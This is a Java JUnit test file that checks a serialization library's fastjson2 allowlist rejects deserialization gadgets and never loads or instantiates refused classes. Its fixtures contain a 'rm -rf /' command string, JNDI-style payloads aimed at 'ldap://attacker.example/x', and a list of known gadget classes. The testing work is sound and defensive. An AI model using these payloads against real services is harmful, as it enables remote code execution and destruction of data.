package dev.ferry.serialization.fastjson2;

import dev.ferry.api.spi.ClassAllowlist;
import dev.ferry.serialization.ClassRefusedException;
import dev.ferry.serialization.DefaultClassAllowlist;
import dev.ferry.serialization.fixtures.Gadget;
import dev.ferry.serialization.fixtures.GadgetCarrier;
import dev.ferry.serialization.fixtures.Holder;
import dev.ferry.serialization.fixtures.OrderLine;
import org.junit.jupiter.api.Test;

import javax.management.BadAttributeValueExpException;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicBoolean;

import static dev.ferry.serialization.fastjson2.Json.PERMISSIVE;
import static dev.ferry.serialization.fastjson2.Json.namedObject;
import static dev.ferry.serialization.fastjson2.Json.raw;
import static dev.ferry.serialization.fastjson2.Json.read;
import static dev.ferry.serialization.fastjson2.Json.readObject;
import static dev.ferry.serialization.fastjson2.Json.writeObject;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class Fastjson2AllowlistEnforcementTest {

    private static final String FIXTURES = "dev.ferry.serialization.fixtures.";

    private static final ClassAllowlist JDK = DefaultClassAllowlist.jdkDefaults();

    private static ClassRefusedException refused(byte[] bytes, ClassAllowlist allowlist) {
        return assertThrows(ClassRefusedException.class, () -> readObject(bytes, allowlist));
    }

    @Test
    void refusedClassIsNeverInstantiated() throws IOException {
        byte[] bytes = writeObject(new Gadget("rm -rf /"));
        int constructed = Gadget.CONSTRUCTED.get();

        ClassRefusedException e = refused(bytes, JDK);

        assertEquals(Gadget.class.getName(), e.className());
        assertFalse(e.knownGadget());
        assertTrue(e.getMessage().contains("class " + Gadget.class.getName() + " is not allowed for deserialization"), e.getMessage());
        assertTrue(e.getMessage().contains("ServiceConfig.allowClass"), e.getMessage());
        assertEquals(constructed, Gadget.CONSTRUCTED.get());

        // positive control: the detector does see an instance that is created
        Object back = readObject(bytes, DefaultClassAllowlist.builder().allowClass(Gadget.class).build());
        assertEquals("rm -rf /", assertInstanceOf(Gadget.class, back).getCommand());
        assertTrue(Gadget.CONSTRUCTED.get() > constructed);
    }

    @Test
    void refusedWhereverItIsNested() throws IOException {
        ClassAllowlist allowlist = DefaultClassAllowlist.builder().allowClass(Holder.class).build();
        Map<String, Object> map = new HashMap<>();
        map.put("k", new Gadget("x"));
        Map<Object, String> keyed = new HashMap<>();
        keyed.put(new Gadget("x"), "v");
        // in a list, a map value, a map key, an Object[], a typed array and a field of an allowed class
        List<byte[]> payloads = List.of(
                writeObject(new ArrayList<>(List.of("a", new Gadget("x")))),
                writeObject(map),
                writeObject(keyed),
                writeObject(new Object[] {1, new Gadget("x")}),
                writeObject(new Gadget[] {new Gadget("x")}),
                writeObject(new Holder(new Gadget("x"))));
        int constructed = Gadget.CONSTRUCTED.get();
        for (byte[] bytes : payloads) {
            assertEquals(Gadget.class.getName(), refused(bytes, allowlist).className());
        }
        // the same inside a typed read of an allowed class
        ClassRefusedException typed = assertThrows(ClassRefusedException.class,
                () -> read(payloads.get(5), allowlist).readObject(Holder.class, Holder.class));
        assertEquals(Gadget.class.getName(), typed.className());
        assertEquals(constructed, Gadget.CONSTRUCTED.get());
    }

    @Test
    void aDeclaredFieldTypeIsCheckedThoughTheBytesNameNoClass() throws IOException {
        byte[] bytes = writeObject(new GadgetCarrier(new Gadget("x")));
        ClassAllowlist carrierOnly = DefaultClassAllowlist.builder().allowClass(GadgetCarrier.class).build();
        int constructed = Gadget.CONSTRUCTED.get();
        assertEquals(Gadget.class.getName(), refused(bytes, carrierOnly).className());
        assertEquals(Gadget.class.getName(), assertThrows(ClassRefusedException.class,
                () -> read(bytes, carrierOnly).readObject(GadgetCarrier.class, GadgetCarrier.class)).className());
        assertEquals(constructed, Gadget.CONSTRUCTED.get());
        // positive control
        ClassAllowlist both = DefaultClassAllowlist.builder().allowClass(GadgetCarrier.class).allowClass(Gadget.class).build();
        assertEquals("x", ((GadgetCarrier) readObject(bytes, both)).getGadget().getCommand());
    }

    @Test
    void refusedAsTheExpectedTypeOfATypedRead() throws IOException {
        byte[] bytes = writeObject(new HashMap<>(Map.of("command", "x")));
        int constructed = Gadget.CONSTRUCTED.get();
        ClassRefusedException e = assertThrows(ClassRefusedException.class,
                () -> read(bytes, JDK).readObject(Gadget.class, Gadget.class));
        assertEquals(Gadget.class.getName(), e.className());
        assertEquals(constructed, Gadget.CONSTRUCTED.get());
    }

    @Test
    void refusedClassIsNotEvenLoaded() throws IOException {
        String gadget = FIXTURES + "NeverLoadedGadget";
        String probe = FIXTURES + "StaticInitProbe";
        RecordingLoader loader = new RecordingLoader(getClass().getClassLoader());
        Fastjson2Serialization serialization = new Fastjson2Serialization(loader);
        ClassAllowlist holders = DefaultClassAllowlist.builder().allowClass(Holder.class).build();
        List<byte[]> payloads = List.of(
                raw(w -> namedObject(w, gadget, "command", "calc")),
                raw(w -> {
                    w.writeTypeName("[L" + gadget + ";");
                    w.startArray(1);
                    namedObject(w, gadget, "command", "calc");
                }),
                raw(w -> {
                    w.writeTypeName(Holder.class.getName());
                    w.startObject();
                    w.writeName("value");
                    namedObject(w, gadget, "command", "calc");
                    w.endObject();
                }));
        for (byte[] bytes : payloads) {
            ClassRefusedException e = assertThrows(ClassRefusedException.class,
                    () -> serialization.deserialize(new ByteArrayInputStream(bytes), holders).readObject());
            assertEquals(gadget, e.className());
        }
        assertFalse(loader.requested.contains(gadget), "the refused class was looked up: " + loader.requested);
        assertNull(System.getProperty("ferry.test.NeverLoadedGadget.initialised"), "static initialiser ran");

        // positive control: an allowed class is loaded through that loader and initialised on use
        byte[] probeBytes = raw(w -> namedObject(w, probe, "command", "ok"));
        Object back = serialization.deserialize(new ByteArrayInputStream(probeBytes),
                DefaultClassAllowlist.builder().allowClass(probe).build()).readObject();
        assertEquals(probe, back.getClass().getName());
        assertTrue(loader.requested.contains(probe));
        assertEquals("true", System.getProperty("ferry.test.StaticInitProbe.initialised"));
    }

    @Test
    void knownGadgetsAreRefusedWhateverTheAllowlistSays() {
        Map<String, String> gadgets = new LinkedHashMap<>();
        gadgets.put("com.sun.rowset.JdbcRowSetImpl", "dataSourceName");
        gadgets.put("javax.management.BadAttributeValueExpException", "val");
        gadgets.put("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_name");
        gadgets.put("org.apache.xalan.xsltc.trax.TemplatesImpl", "_name");
        gadgets.put("org.apache.commons.collections.functors.InvokerTransformer", "iMethodName");
        gadgets.put("java.util.PriorityQueue", "comparator");
        gadgets.put("java.lang.ProcessBuilder", "command");
        gadgets.put("org.springframework.beans.factory.ObjectFactory", "target");
        gadgets.forEach((gadget, field) -> {
            ClassAllowlist allowingItsPackage = DefaultClassAllowlist.builder()
                    .allowPackage(gadget.substring(0, gadget.lastIndexOf('.')))
                    .allowClass(gadget)
                    .build();
            List<byte[]> payloads = List.of(
                    raw(w -> namedObject(w, gadget, field, "ldap://attacker.example/x")),
                    raw(w -> {
                        w.startObject();
                        w.writeName("payload");
                        namedObject(w, gadget, field, "ldap://attacker.example/x");
                        w.endObject();
                    }),
                    raw(w -> {
                        w.startArray(2);
                        w.writeString("first");
                        namedObject(w, gadget, field, "ldap://attacker.example/x");
                    }));
            for (byte[] bytes : payloads) {
                for (ClassAllowlist allowlist : List.of(JDK, allowingItsPackage, PERMISSIVE)) {
                    ClassRefusedException e = refused(bytes, allowlist);
                    assertEquals(gadget, e.className());
                    assertTrue(e.knownGadget(), gadget);
                    assertTrue(e.getMessage().contains("known deserialization gadgets"), e.getMessage());
                }
            }
        });
    }

    @Test
    void realGadgetInstancesWrittenByFastjson2AreRefused() throws IOException {
        PriorityQueue<Integer> queue = new PriorityQueue<>(Comparator.reverseOrder());
        queue.add(2);
        queue.add(1);
        byte[] queueBytes = writeObject(queue);
        assertEquals("java.util.PriorityQueue", refused(queueBytes, PERMISSIVE).className());
        byte[] badAttribute = writeObject(new BadAttributeValueExpException("x"));
        assertEquals("javax.management.BadAttributeValueExpException", refused(badAttribute, PERMISSIVE).className());
        byte[] inHolder = writeObject(new Holder(new BadAttributeValueExpException("x")));
        assertEquals("javax.management.BadAttributeValueExpException", refused(inHolder, PERMISSIVE).className());
    }

    @Test
    void aTypeFieldInsideAnObjectDoesNotNameAClass() throws IOException {
        // "@type" as a plain field name, as text JSON would carry it
        byte[] bytes = raw(w -> {
            w.startObject();
            w.writeName("@type");
            w.writeString("com.sun.rowset.JdbcRowSetImpl");
            w.writeName("dataSourceName");
            w.writeString("ldap://attacker.example/x");
            w.endObject();
        });
        Object untyped = readObject(bytes, PERMISSIVE);
        assertEquals(Map.of("@type", "com.sun.rowset.JdbcRowSetImpl", "dataSourceName", "ldap://attacker.example/x"), untyped);
        // a typed read fails as malformed (the name field is not a type name), having built nothing
        ClassAllowlist holders = DefaultClassAllowlist.builder().allowClass(Holder.class).build();
        assertThrows(IOException.class, () -> read(bytes, holders).readObject(Holder.class, Holder.class));
    }

    @Test
    void classValuesAreAlwaysRefused() throws IOException {
        byte[] bytes = writeObject(String.class);
        ClassRefusedException e = refused(bytes, PERMISSIVE);
        assertEquals("java.lang.Class", e.className());
        assertTrue(e.knownGadget());
        byte[] name = writeObject(FIXTURES + "NeverLoadedGadget");
        assertEquals("java.lang.Class", assertThrows(ClassRefusedException.class,
                () -> read(name, PERMISSIVE).readObject(Class.class, Class.class)).className());
        assertNull(System.getProperty("ferry.test.NeverLoadedGadget.initialised"));
    }

    @Test
    void fastjson2AliasesAreCheckedUnderTheNameTheyStandFor() throws IOException {
        byte[] linked = writeObject(new LinkedHashMap<>(Map.of("a", 1)));
        ClassAllowlist noLinkedMaps = name -> !name.equals("java.util.LinkedHashMap") && JDK.allows(name);
        assertEquals(Map.of("a", 1), readObject(linked, JDK));
        assertEquals("java.util.LinkedHashMap", refused(linked, noLinkedMaps).className());
    }

    @Test
    void oneAllowlistsDecisionsNeverServeAnother() throws IOException {
        byte[] bytes = writeObject(new OrderLine("a", 1));
        ClassAllowlist lines = DefaultClassAllowlist.builder().allowClass(OrderLine.class).build();
        for (int i = 0; i < 3; i++) {
            assertEquals(new OrderLine("a", 1), readObject(bytes, lines));
            assertEquals(new OrderLine("a", 1), read(bytes, lines).readObject(OrderLine.class, OrderLine.class));
            assertEquals(OrderLine.class.getName(), refused(bytes, JDK).className());
            assertEquals(OrderLine.class.getName(), assertThrows(ClassRefusedException.class,
                    () -> read(bytes, JDK).readObject(OrderLine.class, OrderLine.class)).className());
        }
    }

    @Test
    void theAllowlistIsAskedOnEveryRead() throws IOException {
        AtomicBoolean open = new AtomicBoolean(true);
        ClassAllowlist switchable = name -> (open.get() || !name.equals(OrderLine.class.getName())) && JDK.allows(name)
                || open.get() && name.equals(OrderLine.class.getName());
        byte[] bytes = writeObject(new OrderLine("a", 1));
        assertEquals(new OrderLine("a", 1), readObject(bytes, switchable));
        assertEquals(new OrderLine("a", 1), read(bytes, switchable).readObject(OrderLine.class, OrderLine.class));
        open.set(false);
        assertEquals(OrderLine.class.getName(), refused(bytes, switchable).className());
        assertThrows(ClassRefusedException.class, () -> read(bytes, switchable).readObject(OrderLine.class, OrderLine.class));
    }

    @Test
    void unknownButAllowedClassIsAnErrorNotAMap() {
        byte[] bytes = raw(w -> namedObject(w, "com.example.NotOnTheClassPath", "name", "v"));
        IOException e = assertThrows(IOException.class,
                () -> readObject(bytes, DefaultClassAllowlist.builder().allowPackage("com.example").build()));
        assertFalse(e instanceof ClassRefusedException);
        assertTrue(e.getMessage().contains("com.example.NotOnTheClassPath"), e.getMessage());
    }

    /** Records every class name asked of it. */
    static final class RecordingLoader extends ClassLoader {
        final Set<String> requested = ConcurrentHashMap.newKeySet();

        RecordingLoader(ClassLoader parent) {
            super(parent);
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            requested.add(name);
            return super.loadClass(name, resolve);
        }
    }
}
